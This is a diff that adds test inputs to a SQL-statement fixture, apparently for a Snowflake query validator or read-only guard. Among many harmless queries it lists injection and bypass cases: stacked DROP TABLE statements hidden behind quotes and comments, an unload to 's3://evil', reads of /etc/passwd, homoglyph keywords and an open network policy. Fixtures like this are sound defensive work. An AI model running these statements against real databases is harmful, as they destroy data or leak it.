@@ -739,3 +739,375 @@ SELECT a FROM t LIMIT (my_udf(a))
 WITH my_udf(a) AS (SELECT 1) SELECT my_udf(a) FROM t
 -- ;;
 SELECT * FROM t AS x (a, b), my_udtf(a)
+-- ;;
+SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))
+-- ;;
+SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID(-2))) WHERE "name" LIKE 'A%'
+-- ;;
+DESCRIBE RESULT LAST_QUERY_ID()
+-- ;;
+SELECT CEILING(1.5)
+-- ;;
+SELECT CHAR_LENGTH('x')
+-- ;;
+SELECT TO_HEX(1)
+-- ;;
+SELECT SYSTEM$CANCEL_ALL_QUERIES(CURRENT_SESSION())
+-- ;;
+SELECT SYSTEM$ABORT_SESSION(123)
+-- ;;
+SELECT SYSTEM$ABORT_TRANSACTION(1)
+-- ;;
+SELECT SYSTEM$SEND_EMAIL('i', 'a@b.c', 's', 'b')
+-- ;;
+SELECT SYSTEM$SEND_SNOWFLAKE_NOTIFICATION('x', 'y')
+-- ;;
+SELECT SYSTEM$TASK_DEPENDENTS_ENABLE('t')
+-- ;;
+SELECT SYSTEM$USER_TASK_CANCEL_ONGOING_EXECUTIONS('t')
+-- ;;
+SELECT SYSTEM$GLOBAL_ACCOUNT_SET_PARAMETER('a', 'b', 'c')
+-- ;;
+SELECT SYSTEM$SET_RETURN_VALUE('x')
+-- ;;
+SELECT SYSTEM$GET_PREDECESSOR_RETURN_VALUE()
+-- ;;
+SELECT SYSTEM$GENERATE_SCIM_ACCESS_TOKEN('x')
+-- ;;
+SELECT SYSTEM$REGISTER_PRIVATELINK_ENDPOINT('a', 'b', 'c')
+-- ;;
+SELECT SYSTEM$CREATE_BILLING_EVENT('a', 'b')
+-- ;;
+SELECT SYSTEM$EXECUTE_SQL('drop table t')
+-- ;;
+SELECT SYSTEM$QUERY_REFERENCE('select 1')
+-- ;;
+SELECT SYSTEM$REFERENCE('TABLE', 't', 'SESSION', 'INSERT')
+-- ;;
+SELECT "SYSTEM$WAIT"(10)
+-- ;;
+SELECT system$wait(10) FROM t
+-- ;;
+SELECT a, (SELECT SYSTEM$CANCEL_QUERY('x')) FROM t
+-- ;;
+SELECT * FROM t WHERE SYSTEM$CANCEL_QUERY('x') = 'ok'
+-- ;;
+SELECT * FROM t ORDER BY SYSTEM$CANCEL_QUERY('x')
+-- ;;
+SELECT * FROM t QUALIFY ROW_NUMBER() OVER (ORDER BY SYSTEM$WAIT(1)) = 1
+-- ;;
+SELECT COUNT(*) FROM t GROUP BY SYSTEM$WAIT(1)
+-- ;;
+SELECT * FROM t LIMIT SYSTEM$WAIT(1)
+-- ;;
+SELECT seq1.NEXTVAL
+-- ;;
+SELECT db.s.seq1.nextval FROM t
+-- ;;
+SELECT "SEQ1".NEXTVAL
+-- ;;
+SELECT s.nextval FROM TABLE(GETNEXTVAL(seq1)) s
+-- ;;
+SELECT * FROM TABLE(GETNEXTVAL(seq1))
+-- ;;
+SELECT my_external_fn(a) FROM t
+-- ;;
+SELECT db.s.exfil(ssn) FROM customers
+-- ;;
+SELECT * FROM TABLE(db.s.my_proc('x'))
+-- ;;
+SELECT * FROM TABLE(my_udtf(1)) OVER (PARTITION BY a)
+-- ;;
+SELECT t.*, u.* FROM t, TABLE(my_udtf(t.a)) u
+-- ;;
+SELECT AI_COMPLETE('mistral-large', 'hello')
+-- ;;
+SELECT SNOWFLAKE.CORTEX.COMPLETE('m', 'x')
+-- ;;
+SELECT AI_CLASSIFY(a, ['x', 'y']) FROM t
+-- ;;
+SELECT snowflake.cortex.sentiment(r) FROM reviews
+-- ;;
+SELECT * FROM TABLE(SNOWFLAKE.CORTEX.FINETUNE('CREATE', 'x'))
+-- ;;
+SELECT my_model!PREDICT(INPUT_DATA => x) FROM t
+-- ;;
+CALL my_model!FORECAST(FORECASTING_PERIODS => 3)
+-- ;;
+SELECT * FROM TABLE(my_model!FORECAST(3))
+-- ;;
+SELECT TO_QUERY('drop table t')
+-- ;;
+SELECT * FROM TABLE(TO_QUERY('SELECT 1'))
+-- ;;
+SELECT * FROM TABLE(TO_QUERY(SQL => 'delete from t'))
+-- ;;
+SELECT * FROM IDENTIFIER('t')
+-- ;;
+SELECT IDENTIFIER('my_fn')(1)
+-- ;;
+SELECT * FROM TABLE(IDENTIFIER($x))
+-- ;;
+SELECT * FROM TABLE($my_table)
+-- ;;
+SELECT * FROM TABLE('db.s.t')
+-- ;;
+SELECT IDENTIFIER(:col) FROM t
+-- ;;
+SELECT * FROM TABLE(RESULT_SCAN('01b2c3d4-0000-1111-2222-333344445555'))
+-- ;;
+SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID(-2)))
+-- ;;
+SELECT * FROM TABLE(result_scan(?))
+-- ;;
+SELECT * FROM @my_stage
+-- ;;
+SELECT $1, $2 FROM @%orders (FILE_FORMAT => 'csv')
+-- ;;
+SELECT * FROM 's3://bucket/file.csv'
+-- ;;
+SELECT METADATA$FILENAME FROM '@my_stage/x'
+-- ;;
+SELECT BUILD_SCOPED_FILE_URL(@s, 'x')
+-- ;;
+SELECT GET_PRESIGNED_URL(@s, 'x', 3600)
+-- ;;
+SELECT GET_STAGE_LOCATION(@s)
+-- ;;
+SELECT BUILD_STAGE_FILE_URL(@s, 'x')
+-- ;;
+SELECT TO_FILE('@s/x.png')
+-- ;;
+INSERT ALL INTO a INTO b SELECT * FROM c
+-- ;;
+INSERT FIRST WHEN x > 1 THEN INTO a ELSE INTO b SELECT x FROM c
+-- ;;
+UPDATE t SET a = 1 FROM u WHERE t.id = u.id
+-- ;;
+MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE
+-- ;;
+TRUNCATE TABLE IF EXISTS t
+-- ;;
+CREATE OR REPLACE TABLE t AS SELECT * FROM u
+-- ;;
+CREATE TEMPORARY TABLE x CLONE t
+-- ;;
+CREATE DATABASE d CLONE prod
+-- ;;
+CREATE NETWORK POLICY p ALLOWED_IP_LIST = ('0.0.0.0/0')
+-- ;;
+CREATE SHARE s
+-- ;;
+ALTER SESSION SET QUERY_TAG = 'x'
+-- ;;
+ALTER ACCOUNT SET ALLOW_ID_TOKEN = TRUE
+-- ;;
+ALTER USER me SET RSA_PUBLIC_KEY = 'x'
+-- ;;
+ALTER WAREHOUSE w SET WAREHOUSE_SIZE = 'XXLARGE'
+-- ;;
+ALTER TASK t RESUME
+-- ;;
+ALTER TABLE t SWAP WITH u
+-- ;;
+DROP SCHEMA s CASCADE
+-- ;;
+DROP TABLE t ->> SELECT 1
+-- ;;
+SHOW TABLES ->> CREATE TABLE x AS SELECT * FROM $1
+-- ;;
+SELECT 1 ->> CALL p()
+-- ;;
+SELECT 1 ->> EXECUTE IMMEDIATE 'x'
+-- ;;
+SHOW TABLES ->> SELECT my_udf("name") FROM $1
+-- ;;
+EXPLAIN INSERT INTO t SELECT 1
+-- ;;
+EXPLAIN USING TEXT CREATE TABLE x AS SELECT 1
+-- ;;
+EXPLAIN SELECT my_udf(1)
+-- ;;
+EXPLAIN CALL p()
+-- ;;
+BEGIN; SELECT 1; COMMIT
+-- ;;
+BEGIN DROP TABLE t; RETURN 1; END
+-- ;;
+BEGIN LET x := 1; RETURN x; END
+-- ;;
+DECLARE x INT; BEGIN DELETE FROM t; END
+-- ;;
+EXECUTE IMMEDIATE :x
+-- ;;
+EXECUTE NOTEBOOK nb()
+-- ;;
+EXECUTE SERVICE IN COMPUTE POOL p FROM SPECIFICATION $$x$$
+-- ;;
+EXECUTE JOB SERVICE IN COMPUTE POOL p
+-- ;;
+EXECUTE DBT PROJECT p
+-- ;;
+CALL SYSTEM$SEND_EMAIL('a', 'b', 'c', 'd')
+-- ;;
+CALL SNOWFLAKE.CORTEX_ANALYST.X()
+-- ;;
+WITH x AS PROCEDURE() RETURNS TABLE() LANGUAGE SQL AS $$ SELECT 1 $$ CALL x()
+-- ;;
+WITH f AS FUNCTION(a INT) RETURNS INT AS 'a' SELECT f(1)
+-- ;;
+COPY INTO 's3://evil/x' FROM t
+-- ;;
+UNLOAD ('select 1')
+-- ;;
+USE SCHEMA other
+-- ;;
+UNDROP DATABASE d
+-- ;;
+DESCRIBE RESULT '01b2c3d4-0000-1111-2222-333344445555'
+-- ;;
+SELECT 1;;DROP TABLE t
+-- ;;
+SELECT 1 /* ; */ ; /* */ DELETE FROM t
+-- ;;
+SELECT 'a\'; DROP TABLE t; --'; DROP TABLE u
+-- ;;
+SELECT '\\'; DROP TABLE t --'
+-- ;;
+SELECT $$ $$; DROP TABLE t; $$ $$
+-- ;;
+SELECT "a""; "; DROP TABLE t --"
+-- ;;
+SELECT * FROM t FOR UPDATE
+-- ;;
+SELECT a INTO :x FROM t
+-- ;;
+SELECT a INTO new_table FROM t
+-- ;;
+SELECT * FROM (DELETE FROM t RETURNING *)
+-- ;;
+WITH x AS (INSERT INTO t VALUES (1)) SELECT * FROM x
+-- ;;
+WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x
+-- ;;
+WITH x AS (SELECT 1) UPDATE t SET a = 1
+-- ;;
+SELECT * FROM TABLE(SHOW TABLES)
+-- ;;
+SELECT * FROM TABLE(FLATTEN(INPUT => my_udf(1)))
+-- ;;
+SELECT FILTER(a, x -> SYSTEM$WAIT(x) = '') FROM t
+-- ;;
+SELECT CASE WHEN my_udf(1) THEN 1 END
+-- ;;
+SELECT a[my_udf(1)] FROM t
+-- ;;
+SELECT v:a[my_udf(0)] FROM t
+-- ;;
+SELECT SUM(x) OVER (PARTITION BY my_udf(y)) FROM t
+-- ;;
+SELECT * FROM a ASOF JOIN b MATCH_CONDITION (my_udf(a.t) >= b.t)
+-- ;;
+SELECT * FROM t AT (TIMESTAMP => my_udf())
+-- ;;
+SELECT * FROM t AT (STATEMENT => SYSTEM$X())
+-- ;;
+SELECT * FROM t PIVOT (my_agg(x) FOR y IN ('a'))
+-- ;;
+SELECT * FROM t PIVOT (SUM(x) FOR y IN (SELECT my_udf(1)))
+-- ;;
+SELECT * FROM t MATCH_RECOGNIZE (ORDER BY a MEASURES my_udf(x) AS m PATTERN (p) DEFINE p AS TRUE)
+-- ;;
+SELECT * FROM t MATCH_RECOGNIZE (ORDER BY a MEASURES 1 AS m PATTERN (p) DEFINE p AS my_udf(x))
+-- ;;
+SELECT FIRST(a), LAST(b) FROM t
+-- ;;
+SELECT PREV(a) FROM t
+-- ;;
+SELECT LISTAGG(my_udf(a), ',') WITHIN GROUP (ORDER BY b) FROM t
+-- ;;
+SELECT LISTAGG(a, ',') WITHIN GROUP (ORDER BY my_udf(b)) FROM t
+-- ;;
+SELECT * FROM t START WITH my_udf(1) CONNECT BY PRIOR a = b
+-- ;;
+SELECT * FROM SEMANTIC_VIEW(sv METRICS a.b WHERE my_udf(1) = 1)
+-- ;;
+SELECT UPPER (my_udf ( 1 ))
+-- ;;
+SELECT my_udf/* x */(1)
+-- ;;
+SELECT "my_udf"(1), "UPPER"('x')
+-- ;;
+SELECT db.s.UPPER('x')
+-- ;;
+SELECT public.abs(1)
+-- ;;
+SELECT information_schema.my_fn(1)
+-- ;;
+SELECT * FROM TABLE(evil.INFORMATION_SCHEMA.MY_FN())
+-- ;;
+SELECT GET_DDL(1), RUN_SQL('x')
+-- ;;
+SELECT ＳＥＬＥＣＴ(1)
+-- ;;
+ＤＥＬＥＴＥ FROM t
+-- ;;
+SELECT ſum(1)
+-- ;;
+SELECT my_ﬁn(1)
+-- ;;
+SELECT größe(1)
+-- ;;
+ſELECT 1
+-- ;;
+SELECT 1 UNION ALL CALL p()
+-- ;;
+SELECT PUT(1) ; PUT file:///a @b
+-- ;;
+PUT file:///a @b
+-- ;;
+GET @b file:///a PATTERN = '.*'
+-- ;;
+SET x = (SELECT 1)
+-- ;;
+GRANT SELECT ON ALL TABLES IN SCHEMA s TO ROLE PUBLIC
+-- ;;
+REVOKE ROLE r FROM USER u
+-- ;;
+PRAGMA x
+-- ;;
+ATTACH 'a.db'
+-- ;;
+ANALYZE TABLE t
+-- ;;
+VACUUM t
+-- ;;
+EXEC sp_x
+-- ;;
+DO $$ BEGIN END $$
+-- ;;
+ALTER SESSION SET MULTI_STATEMENT_COUNT = 0
+-- ;;
+SELECT * FROM READ_CSV('/etc/passwd')
+-- ;;
+SELECT * FROM read_text('/etc/passwd')
+-- ;;
+SELECT * FROM '/etc/passwd'
+-- ;;
+SELECT * FROM "read_csv"('/etc/passwd')
+-- ;;
+SELECT FINAL(a) FROM t
+-- ;;
+SELECT RUNNING my_udf(1) FROM t
+-- ;;
+SELECT NTH_VALUE(my_udf(a), 2) FROM FIRST OVER (ORDER BY b) FROM t
+-- ;;
+SELECT a FROM first, my_udf(1) FROM t
+-- ;;
+SELECT EXECUTE_IMMEDIATE('x')
+-- ;;
+DESCRIBE TABLE IDENTIFIER('x')
+-- ;;
+SHOW TABLES HISTORY DELETE FROM t
+-- ;;
+SHOW GRANTS TO ROLE r WITH GRANT OPTION x y
